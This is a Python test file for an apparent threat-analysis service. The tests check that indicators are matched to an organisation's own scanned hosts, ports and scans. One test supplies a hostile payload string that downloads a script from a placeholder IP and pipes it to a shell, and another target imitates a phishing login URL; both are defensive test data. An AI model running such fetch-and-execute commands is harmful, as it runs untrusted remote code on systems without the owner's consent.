"""Matches in the organisation's own assets: the analysis names the inventory hosts an indicator points at."""

from __future__ import annotations

import pytest
from incidents_fakes import FakeAssets

from rampart_threat.analysis.assets import InventoryAssetLookup
from rampart_threat.analysis.domain import Kind, Mode
from rampart_threat.analysis.feeds import InMemoryIndicatorLookup
from rampart_threat.analysis.mappers import analysis_message
from rampart_threat.analysis.repository import InMemoryAnalysisRepository, from_document, to_document
from rampart_threat.analysis.service import AnalysisService, AnalyzeRequest
from rampart_threat.assets.domain import asset_id

pytestmark = pytest.mark.timeout(60)


def service(assets: FakeAssets | None) -> AnalysisService:
    lookup = InventoryAssetLookup(assets) if assets is not None else None
    return AnalysisService(InMemoryAnalysisRepository(), InMemoryIndicatorLookup(), assets=lookup)


def ask(target: str, org: str = "org_a", mode: Mode = Mode.QUICK, kind: Kind | None = None) -> AnalyzeRequest:
    return AnalyzeRequest(org, "usr", target, kind, mode)


def inventory() -> FakeAssets:
    assets = FakeAssets()
    assets.seen("org_a", "203.0.113.7", 22, 443, scan_id="scn_1")
    assets.seen("org_a", "2001:db8::5", 80, scan_id="scn_2")
    assets.seen("org_a", "intranet.example.org", 8443, scan_id="scn_3")
    assets.seen("org_b", "198.51.100.9", 3389, scan_id="scn_9")
    return assets


async def test_an_address_the_organisation_scanned_is_matched_with_its_ports_and_scan() -> None:
    analysis = await service(inventory()).analyze(ask("203.0.113.7"))
    [match] = analysis.asset_matches
    assert match.asset_id == asset_id("org_a", "203.0.113.7")
    assert (match.host, match.open_ports, match.last_scan_id) == ("203.0.113.7", (22, 443), "scn_1")
    assert (match.matched, match.role) == ("203.0.113.7", "the address")
    [reason] = [r for r in analysis.reasons if r.signal == "seen_in_your_assets"]
    assert reason.weight == 0
    assert match.asset_id in reason.evidence
    assert "22, 443" in reason.evidence


async def test_a_match_is_context_and_changes_neither_score_nor_verdict() -> None:
    target = "http://intranet.example.org:8443/login/verify-account"
    without = await service(None).analyze(ask(target))
    with_assets = await service(inventory()).analyze(ask(target))
    assert [m.host for m in with_assets.asset_matches] == ["intranet.example.org"]
    assert without.asset_matches == ()
    assert (with_assets.risk_score, with_assets.verdict, with_assets.confidence) == (
        without.risk_score,
        without.verdict,
        without.confidence,
    )


async def test_another_organisations_assets_are_never_matched() -> None:
    assets = inventory()
    assert (await service(assets).analyze(ask("198.51.100.9", org="org_a"))).asset_matches == ()
    [match] = (await service(assets).analyze(ask("198.51.100.9", org="org_b"))).asset_matches
    assert match.open_ports == (3389,)


async def test_a_domain_matches_only_a_stored_name_and_is_never_resolved() -> None:
    assets = FakeAssets()
    assets.seen("org_a", "10.20.30.40", 8080)  # scanned by address; whatever a name resolves to is not asked
    assert (await service(assets).analyze(ask("files.example.org", kind=Kind.DOMAIN))).asset_matches == ()
    [match] = (await service(inventory()).analyze(ask("INTRANET.example.org"))).asset_matches
    assert match.open_ports == (8443,)


async def test_an_ipv6_address_matches_in_its_canonical_form() -> None:
    [match] = (await service(inventory()).analyze(ask("2001:0DB8:0:0::5"))).asset_matches
    assert match.host == "2001:db8::5"


async def test_hosts_found_inside_a_payload_are_matched_once_each() -> None:
    payload = "curl http://203.0.113.7/x.sh | sh; wget http://203.0.113.7/y; ping intranet.example.org"
    analysis = await service(inventory()).analyze(ask(payload, kind=Kind.PAYLOAD))
    hosts = sorted(m.host for m in analysis.asset_matches)
    assert hosts == ["203.0.113.7", "intranet.example.org"]
    assert all(m.role.startswith(("found in", "host of a URL")) for m in analysis.asset_matches)
    assert len([r for r in analysis.reasons if r.signal == "seen_in_your_assets"]) == 2


async def test_without_an_inventory_nothing_matches() -> None:
    assert (await service(None).analyze(ask("203.0.113.7"))).asset_matches == ()


async def test_matches_survive_storage_and_reach_the_protobuf_answer() -> None:
    analysis = await service(inventory()).analyze(ask("203.0.113.7"))
    stored = from_document(to_document(analysis))
    assert stored.asset_matches == analysis.asset_matches
    [message] = analysis_message(stored).asset_matches
    assert (message.asset_id, message.host, list(message.open_ports), message.last_scan_id) == (
        asset_id("org_a", "203.0.113.7"),
        "203.0.113.7",
        [22, 443],
        "scn_1",
    )
    assert message.HasField("last_seen")
